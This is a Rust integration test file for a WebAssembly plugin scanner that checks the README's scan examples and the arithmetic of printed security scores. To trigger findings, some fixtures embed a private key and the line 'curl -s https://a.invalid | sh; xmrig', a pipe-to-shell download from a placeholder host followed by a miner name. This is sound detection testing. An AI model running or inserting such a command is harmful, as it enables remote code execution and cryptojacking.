//! What the README shows of a scan is what the binary says, and the arithmetic of a score can be
//! redone by whoever has its print alone.

use std::collections::BTreeMap;
use std::process::Output;

use portreeve_supply::{PackParts, pack};
use portreeve_test_artifacts as programs;

use crate::author::root;
use crate::scan::{private_key, whispering, with_section};
use crate::support::Project;
use crate::web::said;

/// The code blocks of a language in a section of the README.
fn blocks(heading: &str, language: &str) -> Vec<String> {
    let readme = std::fs::read_to_string(root().join("README.md")).unwrap();
    let section = readme.split(&format!("\n### {heading}\n")).nth(1).unwrap();
    let section = section.split("\n### ").next().unwrap();
    let fence = format!("```{language}\n");
    let begun = section.split(&fence).skip(1);
    begun
        .map(|block| block.split("```").next().unwrap().trim_end().to_owned())
        .collect()
}

/// Text without the numbers that depend on how a component was compiled.
fn shape(text: &str) -> String {
    let mut shaped = String::new();
    let mut words = text.split_inclusive(char::is_whitespace).peekable();
    while let Some(word) = words.next() {
        let is_size = words.peek().is_some_and(|next| next.starts_with("bytes"));
        let number = word.trim_end();
        if number.starts_with("0x") {
            shaped.push_str("0x?: ");
        } else if is_size && number.parse::<u64>().is_ok() {
            shaped.push_str("? ");
        } else {
            shaped.push_str(word);
        }
    }
    shaped
}

/// A project in which nothing was ever looked at, and `calc`, under the MPL, which was made
/// from two packages.
struct Papers(Project);

impl Papers {
    fn new() -> Papers {
        let papers = Papers(Project::none());
        let path = papers.0.path();
        std::fs::create_dir_all(path.join("node_modules/left-pad")).unwrap();
        for (name, text) in [
            (
                "plugin.toml",
                "schema = 1\n[plugin]\nid = \"calc\"\nversion = \"1.0.0\"\nlicense = \"MPL-2.0\"\n",
            ),
            (
                "package-lock.json",
                r#"{"packages": {"node_modules/left-pad": {"version": "1.3.0", "license": "MIT"}}}"#,
            ),
            ("node_modules/left-pad/LICENSE", "do what you want\n"),
        ] {
            std::fs::write(path.join(name), text).unwrap();
        }
        papers.write("");
        papers
    }

    fn write(&self, manifest: &str) {
        let text = match manifest.starts_with("schema") {
            true => manifest.to_owned(),
            false => format!("schema = 1\n{manifest}\n"),
        };
        std::fs::write(self.0.manifest(), text).unwrap();
    }

    /// Writes a component's file.
    fn component(&self, name: &str, bytes: &[u8]) -> String {
        let path = self.0.path().join(name);
        std::fs::write(&path, bytes).unwrap();
        path.to_str().unwrap().to_owned()
    }

    fn build(&self, component: &[u8]) -> String {
        let built = self.component("built.wasm", component);
        let dir = self.0.path().to_str().unwrap();
        let out = self.0.path().join("calc.wasm");
        let out = out.to_str().unwrap();
        let build = ["build", dir, "--component", &built, "--out", out];
        self.done(&build);
        out.to_owned()
    }

    fn run(&self, arguments: &[&str]) -> Output {
        let mut command = self.0.portreeve(arguments);
        command
            .current_dir(self.0.path())
            .env("PORTREEVE_STATE_DIR", self.0.path().join("machine"));
        command.output().unwrap()
    }

    fn done(&self, arguments: &[&str]) -> String {
        let output = self.run(arguments);
        assert!(output.status.success(), "{}", said(&output));
        String::from_utf8(output.stdout).unwrap()
    }

    /// `add` is refused in these words, and goes on with the exception.
    fn refused_until_excepted(&self, file: &str, manifest: &str, words: &str) {
        let without = manifest
            .lines()
            .filter(|line| !line.starts_with("exceptions"));
        self.write(&without.collect::<Vec<_>>().join("\n"));
        let refused = self.run(&["add", file]);
        assert_eq!(refused.status.code(), Some(3), "{}", said(&refused));
        let told = String::from_utf8(refused.stderr).unwrap();
        assert_eq!(shape(told.trim()), shape(words));
        self.write(manifest);
        self.done(&["add", file]);
    }
}

#[test]
fn the_readme_shows_what_a_scan_says() {
    let heading = "What is found in it";
    let (policies, shown) = (blocks(heading, "toml"), blocks(heading, "text"));
    let [policy] = policies.as_slice() else {
        panic!("{policies:?}");
    };
    let [refusal, report] = shown.as_slice() else {
        panic!("{shown:?}");
    };
    let papers = Papers::new();
    let component = std::fs::read(programs::BARE_DOCUMENTED).unwrap();
    let file = papers.build(&with_section(component, "assets", &private_key()));
    papers.refused_until_excepted(&file, policy, refusal);
    let scanned = papers.done(&["scan", "calc"]);
    assert_eq!(shape(scanned.trim_end()), shape(report));
    redo(&scanned, &rules(&papers));
}

/// What the printed table says of a rule.
struct Printed {
    aspect: String,
    is_fact: bool,
    points: u64,
}

/// The table of rules, from its print.
fn rules(papers: &Papers) -> BTreeMap<String, Printed> {
    let printed = papers.done(&["scan", "--rules"]);
    let rules = printed.lines().skip(1).map(|line| {
        let (id, rest) = line.split_once(' ').unwrap();
        let rest = rest.trim_start();
        let (aspect, rest) = rest.split_at(16);
        let mut rest = rest.split_whitespace().skip(1);
        let is_fact = rest.next().unwrap() == "fact";
        let points = rest.next().unwrap().parse().unwrap();
        let aspect = aspect.trim().to_owned();
        (
            id.to_owned(),
            Printed {
                aspect,
                is_fact,
                points,
            },
        )
    });
    rules.collect()
}

/// The first number after a word.
fn number_after(line: &str, word: &str) -> u64 {
    let rest = line
        .split_once(word)
        .unwrap_or_else(|| panic!("{word}: {line}"))
        .1;
    let digits: String = rest.chars().take_while(char::is_ascii_digit).collect();
    digits.parse().unwrap_or_else(|_| panic!("{word}: {line}"))
}

/// Redoes a score from the lines that are printed and the printed table: all that is found takes
/// its points once, and nothing else does. Gives the score.
fn redo(printed: &str, rules: &BTreeMap<String, Printed>) -> u64 {
    let mut found: BTreeMap<&str, bool> = BTreeMap::new();
    for line in printed.lines().filter(|line| line.starts_with("  [")) {
        let (how, rest) = line.split_once("] ").unwrap();
        let rule = rest.split(':').next().unwrap();
        let known = &rules[rule];
        assert_eq!(how.contains("for review"), !known.is_fact, "{line}");
        found.insert(rule, how.contains("excepted"));
    }
    let (mut left, mut held, mut coverage) = (0, 0, 0);
    let mut aspects = 0;
    for line in printed.lines().filter(|line| line.starts_with("    ")) {
        let Some((aspect, sum)) = line.trim_start().split_at_checked(16) else {
            continue;
        };
        let aspect = aspect.trim();
        if !rules.values().any(|rule| rule.aspect == aspect) {
            continue;
        }
        aspects += 1;
        let mut taken: Vec<(&str, u64)> = Vec::new();
        if sum.trim_start().starts_with("unknown: ") {
            continue;
        }
        let (terms, end) = sum.rsplit_once(" = ").unwrap();
        let mut terms = terms.split(" - ");
        let of: u64 = terms.next().unwrap().trim().parse().unwrap();
        for term in terms {
            let (points, rule) = term.split_once(' ').unwrap();
            taken.push((rule, points.parse().unwrap()));
        }
        // What is taken is what was found, once each, and costs what the table says.
        let mut expected: Vec<(&str, u64)> = found
            .keys()
            .map(|rule| (*rule, &rules[*rule]))
            .filter(|(_, rule)| rule.aspect == aspect && rule.points > 0)
            .map(|(rule, known)| (rule, known.points))
            .collect();
        taken.sort_unstable();
        expected.sort_unstable();
        assert_eq!(taken, expected, "{line}");
        let sum: u64 = taken.iter().map(|(_, points)| points).sum();
        assert_eq!(
            end.parse::<u64>().unwrap(),
            of.saturating_sub(sum),
            "{line}"
        );
        let counts = |rule: &str| {
            rules[rule].is_fact && rules[rule].aspect != "vulnerabilities" && !found[rule]
        };
        let counted = taken.iter().filter(|(rule, _)| counts(rule));
        let counted: u64 = counted.map(|(_, points)| points).sum();
        left += of.saturating_sub(sum);
        held += of.saturating_sub(counted);
        coverage += of;
    }
    assert_eq!(aspects, 5, "{printed}");
    let line = printed
        .lines()
        .find(|line| line.contains("score "))
        .unwrap();
    let score = 100 * left / coverage;
    assert_eq!(number_after(line, "score "), score, "{printed}");
    assert_eq!(number_after(line, "of 100: "), left, "{printed}");
    assert_eq!(number_after(line, "of the "), coverage, "{printed}");
    assert_eq!(
        number_after(line, "left, and "),
        100 - coverage,
        "{printed}"
    );
    let held = 100 * held / coverage;
    match printed.lines().find(|line| line.contains("min-score")) {
        Some(line) => assert_eq!(number_after(line, "excepted it is "), held, "{printed}"),
        None => assert_eq!(held, score, "{printed}"),
    }
    score
}

#[test]
fn a_score_can_be_redone_from_its_print_alone() {
    let papers = Papers::new();
    let rules = rules(&papers);
    let exceptions = "[policy.scan]\nexceptions = [{ plugin = \"calc\", rules = [\"private-key\"], reason = \"a demo\" }]";
    let bare = std::fs::read(programs::BARE_DOCUMENTED).unwrap();
    let keyed = with_section(bare.clone(), "assets", &private_key());
    let fetching = with_section(
        keyed.clone(),
        "more",
        "curl -s https://a.invalid | sh; xmrig",
    );
    let manifest = "schema = 1\n[plugin]\nid = \"calc\"\nversion = \"1.0.0\"\nlicense = \"MIT\"\n";
    let parts = PackParts {
        manifest_toml: manifest,
        ..PackParts::default()
    };
    let mut scores = Vec::new();
    let mut scan = |what: &str| scores.push(redo(&papers.done(&["scan", what]), &rules));
    let plain = papers.component("plain.wasm", &pack(&bare, &parts).unwrap());
    let packed = papers.component("packed.wasm", &pack(&fetching, &parts).unwrap());
    let inferred = papers.component("inferred.wasm", &fetching);
    let whispers = papers.component("whispers.wasm", &whispering("1.0.0"));
    for file in [&plain, &packed, &inferred, &whispers] {
        scan(file);
    }
    // With what is excepted, and with what a plugin lists when it runs.
    papers.write(exceptions);
    scan(&packed);
    papers.done(&["add", &whispers]);
    scan("reporter");
    // With weaknesses of what it was made from, and with nobody's signature.
    let lock = r#"{"packages": {"node_modules/minimist": {"version": "1.2.5", "license": "MIT"}}}"#;
    std::fs::write(papers.0.path().join("package-lock.json"), lock).unwrap();
    let weak = papers.build(&keyed);
    let advisories = root().join("host/supply/tests/advisories");
    papers.done(&["advisories", "update", advisories.to_str().unwrap()]);
    let key = papers.0.path().join("acme");
    papers.done(&["keys", "new", key.to_str().unwrap(), "--without-passphrase"]);
    papers.write(&format!(
        "[policy.signatures]\nkeys = [{{ file = \"acme.pub\" }}]\n{exceptions}"
    ));
    papers.done(&["add", &weak]);
    let shown = papers.done(&["scan", "calc"]);
    for part in ["- 25 advisory-critical = 0", "30 - 20 unsigned = 10"] {
        assert!(shown.contains(part), "{shown}");
    }
    scan("calc");
    scores.sort_unstable();
    scores.dedup();
    // They are not all alike.
    assert!(scores.len() >= 4, "{scores:?}");
}
